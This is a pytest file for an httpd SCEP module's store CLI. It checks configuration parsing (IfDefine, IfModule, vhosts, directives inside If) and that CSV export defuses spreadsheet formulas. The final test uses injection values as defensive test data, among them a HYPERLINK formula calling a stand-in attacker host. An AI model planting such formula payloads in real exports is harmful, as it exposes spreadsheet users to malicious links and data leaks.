"""`scep-ota store -f httpd.conf` acts on the store and CA that httpd uses:
the CLI reads the configuration with httpd's rules (the last value of a
directive wins, <IfDefine> with -D, <IfModule> by the modules loaded,
virtual hosts picked with --vhost, a needed directive inside <If>
refused), and its CSV export never carries a spreadsheet formula."""

import csv
import io
import itertools
import json
import re
import subprocess

import pytest

import scepmsg
import storeenv
from scepenv import scep_directives, scep_location
from storeenv import STATIC_CHALLENGE, cli_store

_names = itertools.count(1)


def fresh(env, tag):
    """A store path (relative to ServerRoot) no config has used yet."""
    name = f"state/t330_{tag}_{env.mpm}_{next(_names)}.db"
    for suffix in ("", "-wal", "-shm"):
        (env.root.path / (name + suffix)).unlink(missing_ok=True)
    return name


def enroll(env, pki, client, txid=None):
    """A PKCSReq through the suite's Python client; the issued CertRep."""
    csr = scepmsg.make_csr(client, STATIC_CHALLENGE)
    msg, txid, _ = scepmsg.build_pkcsreq(client, pki.issuing.cert, csr, txid=txid)
    r = storeenv.send_one(env.port, storeenv.Prepared(client, msg, txid))
    assert r.http_status == 200, (r.http_status, r.error)
    storeenv.decode([r], verify_with=pki.issuing.cert)
    assert r.rep.status == scepmsg.SUCCESS, r.rep
    assert r.rep.transaction_id == txid
    return r.rep


def listed(env, *opts):
    """Serials `scep-ota store -f httpd.conf OPTS list` prints."""
    out = cli_store(env.root.conf, *opts, "list").stdout.splitlines()
    assert out and out[0].split()[0] == "SERIAL", out[:3]
    return {ln.split()[0] for ln in out[1:]}


def crl_issuer(env, tmp_path, *opts):
    crl = tmp_path / "crl.pem"
    crl.write_text(cli_store(env.root.conf, *opts, "crl").stdout)
    return subprocess.run(["openssl", "crl", "-in", str(crl), "-noout", "-issuer"],
                          capture_output=True, text=True, timeout=30,
                          check=True).stdout


def base(pki, *lines):
    return "\n".join([
        f"SCEPChallengePassword {STATIC_CHALLENGE}",
        *lines,
        scep_location("/scep"),
    ])


def test_330_001_ifdefine_stores_and_cas(env, pki, keypool, tmp_path):
    """Two stores and two CAs under <IfDefine STAGING> / <IfDefine
    !STAGING>: httpd started without -D STAGING enrolls into the second;
    the CLI finds the certificate there, and with -D STAGING reads the
    other store and signs its CRL with the other CA."""
    staging, prod = fresh(env, "staging"), fresh(env, "prod")
    snippet = base(pki, "<IfDefine STAGING>",
                   f"    SCEPStore sqlite3:{staging}",
                   scep_directives(pki.other.cert_file, pki.other.key_file, indent="    "),
                   "</IfDefine>",
                   "<IfDefine !STAGING>",
                   f"    SCEPStore sqlite3:{prod}",
                   scep_directives(pki.ca_chain_file, pki.issuing.key_file,
                                   indent="    "),
                   "</IfDefine>")
    # httpd with STAGING defined once, so that the staging store exists too
    env.ensure("Define STAGING\n" + snippet)
    env.ensure(snippet)
    assert (env.root.path / staging).exists() and (env.root.path / prod).exists()

    rep = enroll(env, pki, keypool.clients(1, start=20)[0])
    assert rep.serial in listed(env)
    assert rep.serial in storeenv.sqlite_serials(env.root.path / prod)
    assert rep.serial not in listed(env, "-D", "STAGING")
    assert rep.serial not in listed(env, "-DSTAGING")
    # the CRL is signed by the CA httpd uses, and by the other with -D
    assert "Test Issuing CA" in crl_issuer(env, tmp_path)
    assert "Test Other Vhost CA" in crl_issuer(env, tmp_path, "-D", "STAGING")


def test_330_002_last_store_wins(env, pki, keypool):
    """SCEPStore given twice: httpd uses the last, and so does the CLI;
    ${VAR} from Define is expanded in both."""
    first, last = fresh(env, "first"), fresh(env, "last")
    env.ensure(base(pki, scep_directives(pki.ca_chain_file, pki.issuing.key_file),
                    f"SCEPStore sqlite3:{first}",
                    f"Define T330_STORE {last}",
                    "SCEPStore sqlite3:${T330_STORE}"))
    assert (env.root.path / last).exists()
    assert not (env.root.path / first).exists()
    rep = enroll(env, pki, keypool.clients(1, start=21)[0])
    assert rep.serial in listed(env)


def test_330_003_ifmodule_of_a_missing_module(env, pki, keypool):
    """<IfModule mod_nonexistent.c> is skipped; <IfModule scep_ota_module>
    (loaded by LoadModule above it) is read."""
    ghost, real = fresh(env, "ghost"), fresh(env, "real")
    env.ensure(base(pki, scep_directives(pki.ca_chain_file, pki.issuing.key_file),
                    "<IfModule mod_nonexistent.c>",
                    f"    SCEPStore sqlite3:{ghost}",
                    "</IfModule>",
                    "<IfModule scep_ota_module>",
                    f"    SCEPStore sqlite3:{real}",
                    "</IfModule>",
                    "<IfModule !mod_nonexistent.c>",
                    "    <IfModule mod_so.c>",
                    f"        SCEPStore sqlite3:{real}",
                    "    </IfModule>",
                    "</IfModule>"))
    assert not (env.root.path / ghost).exists()
    rep = enroll(env, pki, keypool.clients(1, start=22)[0])
    assert rep.serial in listed(env)


def test_330_004_scepstore_inside_if_is_refused(env, pki, tmp_path):
    """<If> is decided per request: the CLI names the file and line instead
    of guessing (httpd itself does not accept SCEPStore there)."""
    snippet = base(pki, scep_directives(pki.ca_chain_file, pki.issuing.key_file),
                   "SCEPStore sqlite3:state/t330_if.db",
                   "<If \"%{HTTP_HOST} == 'staging.example'\">",
                   "    SCEPStore sqlite3:state/t330_if_staging.db",
                   "</If>")
    conf = tmp_path / "if.conf"
    text = env.config_text(snippet)
    conf.write_text(text)
    lines = text.splitlines()
    at_if = next(i for i, ln in enumerate(lines, 1) if ln.startswith("<If "))
    p = cli_store(conf, "list", check=False)
    assert p.returncode != 0
    assert f"{conf}:{at_if + 1}: SCEPStore inside <If> ({conf}:{at_if})" in p.stderr, \
        p.stderr
    assert "per request" in p.stderr
    rc, out = env.config_test(snippet)
    assert rc != 0 and "not allowed in <If>" in out, out


def test_330_005_vhost(env, pki, keypool):
    """Two virtual hosts with their own stores: without --vhost the CLI
    refuses and says why; --vhost NAME[:PORT] picks one."""
    a, b = fresh(env, "vhost_a"), fresh(env, "vhost_b")
    ca = scep_directives(pki.ca_chain_file, pki.issuing.key_file, indent="    ")
    env.ensure("\n".join([
        f"<VirtualHost *:{env.port}>",
        "    ServerName 127.0.0.1",
        ca, f"    SCEPChallengePassword {STATIC_CHALLENGE}",
        f"    SCEPStore sqlite3:{a}",
        scep_location("/scep"),
        "</VirtualHost>",
        f"<VirtualHost *:{env.port}>",
        "    ServerName scep-b.example",
        "    ServerAlias *.scep-b.example",
        ca, f"    SCEPStore sqlite3:{b}",
        "</VirtualHost>",
    ]))
    rep = enroll(env, pki, keypool.clients(1, start=23)[0])
    p = cli_store(env.root.conf, "list", check=False)
    assert p.returncode != 0
    assert "--vhost" in p.stderr and a in p.stderr and b in p.stderr, p.stderr
    assert rep.serial in listed(env, "--vhost", "127.0.0.1")
    assert rep.serial in listed(env, "--vhost", f"127.0.0.1:{env.port}")
    assert rep.serial not in listed(env, "--vhost", "x.scep-b.example")
    p = cli_store(env.root.conf, "--vhost", "127.0.0.1:1", "list", check=False)
    assert p.returncode != 0 and "no <VirtualHost>" in p.stderr, p.stderr


FORMULAS = ['=HYPERLINK("http://attacker.example/?x","click")', "+1+2",
            "-3+4", "@SUM(1,2)"]


def test_330_006_csv_export_carries_no_formula(env, pki, keypool):
    """transactionIDs chosen to be spreadsheet formulas come out of the CSV
    export as text (a leading '), quoted; the JSON export keeps them."""
    env.ensure(base(pki, scep_directives(pki.ca_chain_file, pki.issuing.key_file),
                    f"SCEPStore sqlite3:{fresh(env, 'csv')}"))
    clients = keypool.clients(len(FORMULAS), start=24)
    serials = {enroll(env, pki, c, txid=t).serial: t
               for c, t in zip(clients, FORMULAS)}
    out = cli_store(env.root.conf, "export", "--format", "csv").stdout
    rows = list(csv.reader(io.StringIO(out)))
    head, body = rows[0], rows[1:]
    col = head.index("transaction_id")
    got = {r[head.index("serial")]: r[col] for r in body}
    for serial, txid in serials.items():
        assert got[serial] == "'" + txid, (serial, got[serial])
    for r in rows:
        for cell in r:
            assert not re.match(r"[=+\-@\t\r]", cell), cell
    # every cell quoted: a quote doubled, no cell breaks out of its field
    assert '"\'=HYPERLINK(""http://attacker.example/?x"",""click"")"' in out
    exported = json.loads(cli_store(env.root.conf, "export").stdout)
    assert {r["serial"]: r["transaction_id"] for r in exported
            if r["serial"] in serials} == serials
